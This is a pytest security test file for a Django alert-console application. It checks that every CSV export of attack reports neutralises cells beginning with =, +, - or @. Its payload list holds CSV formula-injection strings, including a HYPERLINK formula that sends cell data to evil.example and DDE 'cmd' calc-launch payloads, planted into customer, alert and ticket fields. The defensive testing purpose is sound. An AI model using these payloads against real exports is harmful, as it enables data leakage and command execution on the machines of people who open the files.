"""CSV formula injection: every CSV the console produces neutralises cells starting with = + - @.

The only CSV export (``grep -r text/csv``) is a report's figures, reached three ways: the report
page's download, the public share link's download, and the CSV attached to the report email.
Attacker-controlled values (customer name, attack target, alert titles, vectors, source IPs, ASNs,
countries, ticket text) are planted with formula payloads; the report is generated for real and
each CSV is parsed back.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse

from alerts.models import Alert, Attack, Feed
from reports import services
from reports.models import Report
from tickets import services as ticket_services

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"-?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


@pytest.fixture
def hostile_report(customer_a, engineer, settings):
    settings.REPORT_PDF = False
    customer = customer_a
    customer.name = PAYLOADS[0]
    customer.save()
    feed = Feed(name="Hostile", slug="hostile", format="generic", customer=customer)
    feed.set_secret()
    feed.save()
    from tests.security.builders import T0

    attack = Attack.objects.create(
        customer=customer,
        target=PAYLOADS[1],
        title=PAYLOADS[2],
        vectors=[PAYLOADS[3], "udp_flood"],
        layer="L4",
        severity="critical",
        started_at=T0,
        last_seen=T0 + timedelta(minutes=30),
        ongoing=False,
        peak_bps=1e9,
        peak_pps=1e6,
        urgency=90,
        alert_count=len(PAYLOADS),
    )
    alerts = [
        Alert.objects.create(
            feed=feed,
            customer=customer,
            attack=attack,
            fingerprint=f"hostile-{i}",
            title=payload,
            layer="L4",
            vector=payload,
            severity="critical",
            target_ip="203.0.113.10",
            bps=1e9 - i,
            pps=1e6 - i,
            packets=1000,
            source_ips=[payload, "198.18.0.1"],
            source_asns=[payload],
            source_countries=[payload],
            event_time=T0 + timedelta(minutes=i),
            first_seen=T0 + timedelta(minutes=i),
            last_seen=T0 + timedelta(minutes=i + 1),
            urgency=90,
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    ticket = ticket_services.ticket_create_from_alerts(alerts=alerts, user=engineer)
    for payload in PAYLOADS:
        ticket_services.ticket_add_note(ticket=ticket, body=payload, user=engineer)
    report = services.report_request(user=engineer, attack=attack, enqueue=False)
    services.report_generate(report_id=report.pk, pdf=False)
    report.refresh_from_db()
    assert report.status == Report.Status.DONE, report.error
    return report


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str, where: str) -> int:
    """No cell a spreadsheet would run; returns how many cells were neutralised with a quote."""
    cells = _cells(text)
    assert len(cells) > 6, f"{where}: an empty CSV proves nothing"
    bad = [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not NUMBER.fullmatch(c))
    ]
    assert not bad, f"{where}: formula cells {bad}"
    return sum(1 for c in cells if c.startswith("'") and c[1:2] in ("=", "+", "-", "@", "\t", "\r"))


def test_report_csv_download_neutralises_formulas(hostile_report, engineer, client):
    client.force_login(engineer)
    response = client.get(reverse("report-download", args=[hostile_report.pk, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    neutralised = assert_neutralised(response.content.decode(), "report download")
    assert neutralised >= 3, "the planted payloads should reach the CSV (neutralised)"


def test_shared_report_csv_neutralises_formulas(hostile_report, engineer, client):
    _, token = services.share_link_create(report=hostile_report, user=engineer)
    response = client.get(reverse("report-share-download", args=[token, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert assert_neutralised(response.content.decode(), "share download") >= 3


def test_emailed_report_csv_neutralises_formulas(hostile_report, engineer):
    sent = services.report_send(report=hostile_report, user=engineer, recipients=["soc@customer.example"])
    assert sent
    attachments = [a for m in mail.outbox for a in m.attachments if a[2] == "text/csv"]
    assert attachments, "the report email carries the CSV"
    for _name, content, _type in attachments:
        text = content.decode() if isinstance(content, bytes) else content
        assert assert_neutralised(text, "email attachment") >= 3


def test_every_csv_export_is_covered():
    """A new CSV export must get its own test here: the known ones are the report figures only."""
    import subprocess
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    found = subprocess.run(
        [
            "grep",
            "-rl",
            "--include=*.py",
            "text/csv",
            "alerts",
            "tickets",
            "traffic",
            "mitigations",
            "console",
            "reports",
        ],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    ).stdout.split()
    assert sorted(found) == ["reports/services.py", "reports/views.py"], found
